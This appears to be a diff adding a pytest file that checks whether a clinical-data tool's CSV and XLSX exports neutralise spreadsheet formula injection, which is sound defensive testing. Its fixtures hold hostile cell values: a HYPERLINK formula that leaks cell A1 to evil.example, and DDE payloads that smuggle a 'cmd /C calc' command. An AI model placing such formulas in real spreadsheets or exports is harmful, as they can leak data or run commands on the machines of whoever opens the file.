@@ -1,0 +1,202 @@
+"""No CSV or XLSX graftline writes can run as a spreadsheet formula (issue 18, OWASP CSV injection).
+
+Hostile text - a patient identifier, an arm, a study name, an author, a
+title - goes through every command that writes a table; every cell of every
+CSV written must be inert: no text cell begins with = + - @ tab or CR
+unless prefixed with ', while numbers (negative ones included) are left as
+they were.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import re
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from graftline.export import csv_text, neutralise_cell, neutralise_formulas, write_csv, write_xlsx
+
+HOSTILE_ID = "-2+3+cmd|' /C calc'!A0"
+HOSTILE_ARM = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+HOSTILE_STUDY = "@SUM(1+1)*cmd|' /C calc'!A0"
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def formula_cells(text: str) -> list[str]:
+    """Cells of a CSV text a spreadsheet would take for a formula."""
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
+            if cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]
+
+
+def assert_inert(text: str, *hostile: str) -> None:
+    assert formula_cells(text) == []
+    for value in hostile:
+        assert "'" + value in text or "'" + value.replace('"', '""') in text, f"{value!r} not written"
+
+
+# --- the writer itself ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", HOSTILE_ARM, HOSTILE_ID])
+def test_text_that_could_run_is_prefixed(value):
+    assert neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["MST", "a=b", " =1", "-5", "+1.5e-3", "-.5", "'=already", "", 3, -2.5, None])
+def test_other_cells_are_unchanged(value):
+    assert neutralise_cell(value) == value
+
+
+def test_numeric_columns_untouched_text_columns_neutralised():
+    frame = pd.DataFrame({
+        "patient_id": [HOSTILE_ID, "P2", None],
+        "delta": [-1.5, 2.0, math.nan],
+        "n": pd.array([-3, 4, None], dtype="Int64"),
+        "arm": pd.Categorical([HOSTILE_ARM, "chemo", "chemo"]),
+        "=header": ["x", "y", "z"],
+    })
+    safe = neutralise_formulas(frame)
+    assert safe["patient_id"].tolist()[:2] == ["'" + HOSTILE_ID, "P2"]
+    assert safe["patient_id"].isna().tolist() == [False, False, True]
+    pd.testing.assert_series_equal(safe["delta"], frame["delta"])
+    pd.testing.assert_series_equal(safe["n"], frame["n"])
+    assert safe["arm"].tolist() == ["'" + HOSTILE_ARM, "chemo", "chemo"]
+    assert list(safe.columns)[-1] == "'=header"
+    assert frame["patient_id"].iloc[0] == HOSTILE_ID  # the caller's frame is not changed
+    text = csv_text(frame)
+    assert_inert(text, HOSTILE_ID, HOSTILE_ARM)
+    assert "-1.5" in text and ",-3," in text
+
+
+def test_an_ordinary_table_is_written_byte_for_byte_as_pandas_does(tmp_path):
+    frame = pd.DataFrame({"patient_id": ["P1", "P2"], "day": [11, -3], "value": [0.5, math.nan]})
+    write_csv(frame, tmp_path / "a.csv")
+    assert (tmp_path / "a.csv").read_bytes() == frame.to_csv(index=False, lineterminator="\n").encode()
+
+
+def test_a_failed_write_leaves_the_old_file(tmp_path):
+    target = tmp_path / "t.csv"
+    target.write_text("old\n")
+
+    class Boom:
+        columns = ["a"]
+
+        def copy(self, deep=False):
+            raise RuntimeError("disk full")
+
+    with pytest.raises(RuntimeError):
+        write_csv(Boom(), target)
+    assert target.read_text() == "old\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]
+
+
+def test_xlsx_text_cells_are_strings_never_formulas(tmp_path):
+    import openpyxl
+
+    frame = pd.DataFrame({"patient_id": [HOSTILE_ID, "P2"], "arm": [HOSTILE_ARM, "chemo"], "day": [-1, 12]})
+    write_xlsx(frame, tmp_path / "t.xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
+    assert cells["A2"].value == HOSTILE_ID and cells["A2"].data_type == "s" and cells["A2"].quotePrefix
+    assert cells["B2"].value == HOSTILE_ARM and cells["B2"].data_type == "s" and cells["B2"].quotePrefix
+    assert cells["B3"].value == "chemo" and not cells["B3"].quotePrefix
+    assert cells["C2"].value == -1 and cells["C2"].data_type == "n"
+    assert all(c.data_type != "f" for c in cells.values())
+
+
+# --- every command that writes a table -----------------------------------------
+
+
+def _hostile_cohort(directory: Path) -> None:
+    """The example cohort with patient EX01 renamed and EX02's arm replaced by formulas."""
+    for path in directory.glob("*.csv"):
+        with path.open(newline="") as handle:
+            rows = list(csv.reader(handle))
+        rows = [[HOSTILE_ID if cell == "EX01" else cell for cell in row] for row in rows]
+        if path.stem == "treatments":
+            arm = rows[0].index("arm")
+            for row in rows[1:]:
+                if row[0] == "EX02":
+                    row[arm] = HOSTILE_ARM
+        with path.open("w", newline="") as handle:
+            csv.writer(handle, lineterminator="\n").writerows(rows)
+
+
+def test_cohort_commands_write_inert_tables(graftline, tmp_path, example_cohort):
+    _hostile_cohort(example_cohort)
+    db = tmp_path / "c.duckdb"
+    assert graftline("ingest", example_cohort, "--db", db).code == 0
+    endpoints = tmp_path / "endpoints.csv"
+    run = graftline("endpoints", "--db", db, "--out", endpoints)
+    assert run.code == 0, run.output
+    assert_inert(endpoints.read_text(), HOSTILE_ID, HOSTILE_ARM)
+    run = graftline("endpoints", "--db", db, "--out", tmp_path / "endpoints.xlsx", "--format", "xlsx")
+    assert run.code == 0, run.output
+    read = pd.read_excel(tmp_path / "endpoints.xlsx", dtype=str)
+    assert HOSTILE_ID in read["patient_id"].tolist()
+
+    run = graftline("report", "--endpoints", endpoints, "--db", db, "--out", tmp_path / "report", "--include-ids")
+    assert run.code == 0, run.output
+    tables = sorted((tmp_path / "report" / "tables").glob("*.csv"))
+    assert tables
+    for table in tables:
+        assert formula_cells(table.read_text()) == [], table.name
+    assert_inert((tmp_path / "report" / "tables" / "patient_endpoints.csv").read_text(), HOSTILE_ID)
+    assert_inert((tmp_path / "report" / "tables" / "medians.csv").read_text(), HOSTILE_ARM)
+
+    run = graftline("cuminc", endpoints, "--endpoint", "neutrophil_engraftment", "--group", "arm",
+                    "--out", tmp_path / "cuminc")
+    assert run.code == 0, run.output
+    for table in (tmp_path / "cuminc").glob("*.csv"):
+        assert formula_cells(table.read_text()) == [], table.name
+    assert_inert((tmp_path / "cuminc" / "cuminc_neutrophil_engraftment_at.csv").read_text(), HOSTILE_ARM)
+
+    run = graftline("km", endpoints, "--time", "os_day", "--event", "os_status", "--group", "arm")
+    assert run.code == 0, run.output
+    assert_inert(run.stdout, HOSTILE_ARM)
+
+
+def test_meta_writes_inert_study_tables(graftline, tmp_path):
+    sheet = pd.read_csv(Path(__file__).resolve().parents[2] / "examples" / "meta" / "msc_engraftment_illustrative.csv",
+                        dtype=str, keep_default_na=False)
+    sheet.loc[0, "study"] = HOSTILE_STUDY
+    sheet.loc[:, "msc_source"] = sheet["msc_source"].where(sheet.index != 1, HOSTILE_ARM)
+    sheet.to_csv(tmp_path / "sheet.csv", index=False)
+    run = graftline("meta", tmp_path / "sheet.csv", "--outcome", "neutrophil_engraftment_days", "--arm", "msc",
+                    "--by", "msc_source", "--out", tmp_path / "meta")
+    assert run.code == 0, run.output
+    assert_inert((tmp_path / "meta" / "studies_neutrophil_engraftment_days.csv").read_text(),
+                 HOSTILE_STUDY, HOSTILE_ARM)
+    assert_inert((tmp_path / "meta" / "summary_neutrophil_engraftment_days.csv").read_text(), HOSTILE_ARM)
+
+
+RIS = f"""TY  - JOUR
+AU  - {HOSTILE_STUDY}
+TI  - {HOSTILE_ARM}
+PY  - 2020
+JO  - +Journal of Formulas
+ER  - 
+"""
+
+
+def test_review_exports_are_inert(graftline, tmp_path):
+    project = tmp_path / "review.duckdb"
+    (tmp_path / "hostile.ris").write_text(RIS)
+    assert graftline("review", "init", project).code == 0
+    run = graftline("review", "import", tmp_path / "hostile.ris", "--project", project, "--source", "embase")
+    assert run.code == 0, run.output
+    run = graftline("review", "records", "--project", project, "--csv")
+    assert run.code == 0, run.output
+    assert_inert(run.stdout, HOSTILE_ARM)
+    for stage in ("title_abstract", "full_text"):
+        run = graftline("review", "screen", "1", "--project", project, "--stage", stage,
+                        "--decision", "include", "--reviewer", "anna")
+        assert run.code == 0, run.output
+    run = graftline("review", "extraction-sheet", "--project", project, "--out", tmp_path / "sheet.csv")
+    assert run.code == 0, run.output
+    assert_inert((tmp_path / "sheet.csv").read_text(), HOSTILE_ARM)
